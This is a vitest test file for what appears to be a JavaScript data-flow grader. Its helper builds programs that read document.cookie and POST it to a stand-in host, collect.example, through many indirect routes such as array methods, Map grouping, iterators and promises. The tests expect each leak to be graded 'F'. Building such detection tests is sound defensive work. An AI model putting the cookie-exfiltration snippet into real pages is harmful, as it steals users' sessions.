import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** What methods of the language hand to functions, and what they answer: `v` is data, `send` sends what it is given. */
it.each([
  ['every', '[v].every((x) => send(x));'],
  ['findIndex', '[v].findIndex((x) => send(x));'],
  ['the other of two compared', '[v, 1].sort((a, b) => send(b));'],
  ['a list that is filled', 'send(new Array(3).fill(v)[0]);'],
  ['iterators', 'send([v].values().drop(0).filter(Boolean).take(2).toArray()[0]);'],
  ['sets', 'for (const x of new Set([v]).difference(new Set())) send(x);'],
  ['groups', "send(Object.groupBy([{ k: 'a', v }], (x) => x.k).a[0].v);"],
  ['groups in a map', "send(Map.groupBy([{ k: 'a', v }], (x) => x.k).get('a')[0].v);"],
  ['what is grouped', 'Map.groupBy([v], (x) => send(x));'],
])('%s', async (_, step) => {
  expect(await graded({ content: program(step) })).toBe('F');
  expect(await graded({ content: program(step, "'none'") })).toMatch(/^A/);
});

/* Methods that lead on to what lies in an object under another name than theirs. */
it.each([
  ['get', "const o = new Map(); o.set('a', v); send(o.get('a'));"],
  ['forEach', 'const o = []; o.push(v); o.forEach(send);'],
  ['forEach with keys', 'const o = new Map(); o.set(v, 1); o.forEach((_, k) => send(k));'],
  ['values', 'const o = new Set(); o.add(v); for (const x of o.values()) send(x);'],
  ['keys', 'const o = new Map(); o.set(v, 1); send([...o.keys()][0]);'],
  ['entries', "const o = new Map(); o.set('a', v); for (const [, x] of o.entries()) send(x);"],
  ['slice', 'const o = []; o.push(v); send(o.slice()[0]);'],
  ['join', "const o = []; o.push(v); send(o.join(''));"],
  ['then', 'const o = { a: v }; const p = Promise.resolve(o); p.then((x) => send(x.a));'],
  ['an own method', 'const o = { a: 1, give() { return this.a; } }; o.a = v; send(o.give());'],
  ['a method by another name', 'const o = { a: 1, give() { return this.a; } }, q = o; q.a = v; send(o.give());'],
  ['a method of a class', 'class O { give() { return this.a; } } const o = new O(); o.a = v; send(o.give());'],
  ['a method lent', 'function give() { return this.a; } const o = { give }; o.a = v; send(o.give());'],
])('leads on by %s', async (_, step) => {
  expect(await graded({ content: program(step) })).toBe('F');
  expect(await graded({ content: program(step, "'none'") })).toMatch(/^A/);
});

it('tells what a function answers that only chooses from what it is given', async () => {
  expect(await graded({ content: program('send([1, 2].filter(() => v));') })).toMatch(/^A/);
  expect(await graded({ content: program('send([1, 2].findIndex(() => v));') })).toMatch(/^A/);
  expect(await graded({ content: program('send([1, 2].map(() => v));') })).toBe('F');
});

it('tells which promises a function settles that came out of a list', async () => {
  const settling = (list: string): string =>
    program(
      `const a = [], b = []; const wait = (list) => new Promise((done) => list.push(done)); wait(a).then(send); wait(b); ${list}.forEach((done) => done(v));`,
    );
  expect(await graded({ content: settling('a') })).toBe('F');
  expect(
    await graded({
      content: program(
        'const a = []; new Promise((done) => a.push(done)).then(send); const b = [() => 1]; b.forEach((done) => done(v));',
      ),
    }),
  ).toMatch(/^A/);
});

const program = (step: string, data = 'document.cookie'): string =>
  `const send = (body) => fetch('https://collect.example/', { method: 'POST', body }); const v = ${data}; ${step}`;
